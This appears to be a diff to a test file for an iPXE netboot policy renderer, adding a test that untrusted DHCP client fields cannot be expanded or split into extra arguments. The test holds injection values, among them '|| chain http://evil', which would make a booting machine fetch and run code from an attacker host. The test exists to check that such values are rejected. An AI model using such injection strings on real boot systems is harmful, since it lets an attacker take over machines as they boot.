@@ -147,7 +147,11 @@ test('the default policy at the script stage', () => {
     ],
     [
       osie({ kernelParams: ['a\nb'] }),
-      { kind: 'failed', message: 'profile "hook", linux.args[19]: "a\\nb" holds a control character' },
+      {
+        kind: 'failed',
+        message:
+          'profile "hook", linux.args[19]: {{ machine.netboot.osie.kernelParams }} is "a\\nb", which holds a control character',
+      },
     ],
   ]
   for (const [machine, expected] of rows) assert.deepEqual(bootOf(machine), expected)
@@ -237,6 +241,23 @@ test('arguments: an empty item is left out, a list is as many items, a blank fro
   for (const [list, expected] of rows) {
     assert.deepEqual(renderBoot(args(list), { kind: 'boot', profile: 'p' }, facts, SITE), expected)
   }
+})
+
+test('what the wire says of itself cannot be expanded by iPXE nor become two arguments, alone or in a list', () => {
+  const policy = (argument: string) =>
+    policyOf([['true', '{ boot: p }']], `profiles: { p: { linux: { kernel: 'http://a/k', args: ['${argument}'] } } }\n`)
+  const hostile = { ...FACTS.client, vendorClass: 'x${net0/ip}', userClass: ['a', '|| chain http://evil'] }
+  const rendered = ['v={{ client.vendorClass }}', '{{ client.userClass }}', 'm=${mac}'].map((argument) =>
+    renderBoot(policy(argument), { kind: 'boot', profile: 'p' }, { ...FACTS, client: hostile }, SITE),
+  )
+  assert.deepEqual(rendered, [
+    { kind: 'failed', message: 'profile "p", linux.args[0]: {{ client.vendorClass }} is "x${net0/ip}", which holds $' },
+    {
+      kind: 'failed',
+      message: 'profile "p", linux.args[0]: {{ client.userClass }} is "|| chain http://evil", which holds a blank',
+    },
+    { kind: 'linux', kernel: 'http://a/k', initrd: [], args: ['m=${mac}'] },
+  ])
 })
 
 test('a decision of another policy', () => {
